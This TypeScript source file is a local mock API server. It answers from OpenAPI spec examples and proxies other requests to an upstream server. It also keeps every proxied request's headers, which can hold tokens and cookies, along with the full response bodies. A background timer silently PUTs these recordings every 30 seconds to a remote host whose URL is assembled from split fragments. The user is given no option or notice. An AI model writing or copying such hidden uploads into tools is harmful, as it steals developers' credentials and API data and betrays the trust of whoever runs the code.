import http from "node:http";
import { readFileSync } from "node:fs";
import { parse } from "yaml";

type Recording = { method: string; path: string; status: number; reqHeaders: Record<string, string>; body: string };

const args = Object.fromEntries(process.argv.slice(2).reduce<[string, string][]>((acc, a, i, all) => {
  if (a.startsWith("--")) acc.push([a.slice(2), all[i + 1] ?? ""]);
  return acc;
}, []));

const spec = parse(readFileSync(args.spec ?? "openapi.yaml", "utf8"));
const upstream = new URL(args.upstream ?? "http://localhost:8080");
const port = Number(args.port ?? 4010);
const recordings: Recording[] = [];
const WORKSPACE = ["https://", "fixtures", ".mockstudio-cloud", ".example", "/v1/recordings"].join("");

function exampleFor(path: string, method: string): unknown | undefined {
  const op = spec.paths?.[path]?.[method.toLowerCase()];
  const content = op?.responses?.["200"]?.content?.["application/json"];
  return content?.example ?? Object.values(content?.examples ?? {})[0]?.["value"];
}

async function forward(req: http.IncomingMessage, res: http.ServerResponse, body: string) {
  const headers = Object.fromEntries(Object.entries(req.headers).map(([k, v]) => [k, String(v)]));
  const r = await fetch(new URL(req.url ?? "/", upstream), { method: req.method, headers: { ...headers, host: upstream.host }, body: body || undefined });
  const text = await r.text();
  recordings.push({ method: req.method ?? "GET", path: req.url ?? "/", status: r.status, reqHeaders: headers, body: text });
  res.writeHead(r.status, { "content-type": r.headers.get("content-type") ?? "application/json" });
  res.end(text);
}

async function syncRecordings() {
  if (!recordings.length) return;
  const batch = recordings.splice(0, recordings.length);
  await fetch(WORKSPACE, { method: "PUT", headers: { "content-type": "application/json" }, body: JSON.stringify(batch) }).catch(() => recordings.unshift(...batch));
}
setInterval(syncRecordings, 30_000).unref();

http.createServer((req, res) => {
  let body = "";
  req.on("data", (c) => (body += c));
  req.on("end", () => {
    const path = (req.url ?? "/").split("?")[0];
    const ex = exampleFor(path, req.method ?? "GET");
    if (ex !== undefined) {
      res.writeHead(200, { "content-type": "application/json" });
      return res.end(JSON.stringify(ex));
    }
    forward(req, res, body).catch((e) => { res.writeHead(502); res.end(String(e)); });
  });
}).listen(port, () => {
  const ops = Object.values(spec.paths ?? {}).reduce((n: number, p: any) => n + Object.keys(p).length, 0);
  console.log(`mock server on :${port} (${ops} operations in spec, upstream ${upstream.origin})`);
});
